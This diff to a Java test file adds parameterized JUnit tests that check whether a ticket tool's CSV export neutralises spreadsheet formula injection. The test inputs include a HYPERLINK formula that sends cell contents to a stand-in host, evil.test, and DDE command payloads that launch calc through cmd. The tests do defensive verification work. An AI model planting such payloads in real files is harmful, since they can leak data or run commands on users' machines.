@@ -16,7 +16,11 @@ import com.webriskops.webhooks.sender.SenderFixtures;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
 import java.util.Map;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
 
 class PortableExportTest {
     private static final String TRICKY_TITLE = "Fix \"checkout\", *now* | <b>#1</b> [x](y) _a_ `c`";
@@ -126,5 +130,81 @@ class PortableExportTest {
                 .hasMessageNotContaining(SenderFixtures.SECRET_TEXT);
         assertThatThrownBy(portable::markdown).isInstanceOf(WebhookException.class);
         assertThatThrownBy(portable::json).isInstanceOf(WebhookException.class);
+    }
+
+    static Stream<Arguments> formulas() {
+        return Stream.of(
+                Arguments.of("title", "=HYPERLINK(\"https://evil.test/?\"&A2,\"open\")"),
+                Arguments.of("labels", "@SUM(1+1)*cmd|' /C calc'!A0"),
+                Arguments.of("summary", "+1+1"),
+                Arguments.of("assignee", "-2+3"),
+                Arguments.of("summary", "\t=1+1"),
+                Arguments.of("summary", "\r=1+1"),
+                Arguments.of("title", "\uff1d1+1"),
+                Arguments.of("title", "\uff0b1+1"),
+                Arguments.of("title", "\uff0d1+1"),
+                Arguments.of("title", "\uff201+1"),
+                Arguments.of("title", "  =1+1"),
+                Arguments.of("evidence_links", "=cmd|' /C calc'!A0"));
+    }
+
+    @ParameterizedTest(name = "{0}: {1}")
+    @MethodSource("formulas")
+    void csvDefusesCellsASpreadsheetWouldEvaluate(String column, String text) throws Exception {
+        ExportRequest base = SenderFixtures.export("formula-1");
+        TicketExport t = base.ticketExport();
+        TicketExport hostile = new TicketExport(
+                t.contractVersion(),
+                t.source(),
+                column.equals("title") ? text : t.title(),
+                column.equals("summary") ? text : t.summary(),
+                t.businessImpact(),
+                t.reproductionSteps(),
+                column.equals("evidence_links")
+                        ? List.of(new EvidenceLink(text, "https://app.example.test/e", null, null, false))
+                        : t.evidenceLinks(),
+                t.remediationSnippet(),
+                t.acceptanceCriteria(),
+                column.equals("labels") ? List.of(text, "webriskops") : t.labels(),
+                t.priority(),
+                column.equals("assignee") ? text : t.assignee(),
+                t.externalTicketRefs(),
+                t.exportStatus());
+        PortableExport portable = portable(new ExportRequest(
+                base.idempotencyKey(), base.accountId(), base.projectId(), hostile, base.renderedBody()));
+
+        byte[] bytes = portable.csv().getBytes(StandardCharsets.UTF_8);
+        Map<String, String> row = readCsv(bytes);
+
+        String cell = row.get(column);
+        assertThat(cell).startsWith("'");
+        assertThat(cell.substring(1)).startsWith(text);
+        for (Map.Entry<String, String> entry : row.entrySet()) {
+            assertThat(entry.getValue())
+                    .as(entry.getKey())
+                    .satisfiesAnyOf(
+                            v -> assertThat(v).isEmpty(),
+                            v -> assertThat(v.charAt(0))
+                                    .isNotIn('=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'));
+        }
+    }
+
+    @Test
+    void csvLeavesOrdinaryCellsAsTheyAre() throws Exception {
+        Map<String, String> row = readCsv(portable(trickyExport()).csv().getBytes(StandardCharsets.UTF_8));
+
+        assertThat(row.get("title")).isEqualTo(TRICKY_TITLE);
+        assertThat(row.get("labels")).isEqualTo("a;b;webriskops");
+        assertThat(row.get("severity")).isEqualTo("high");
+    }
+
+    private static Map<String, String> readCsv(byte[] bytes) throws Exception {
+        MappingIterator<Map<String, String>> rows = new CsvMapper()
+                .readerForMapOf(String.class)
+                .with(CsvSchema.emptySchema().withHeader())
+                .readValues(bytes);
+        List<Map<String, String>> all = rows.readAll();
+        assertThat(all).hasSize(1);
+        return all.get(0);
     }
 }
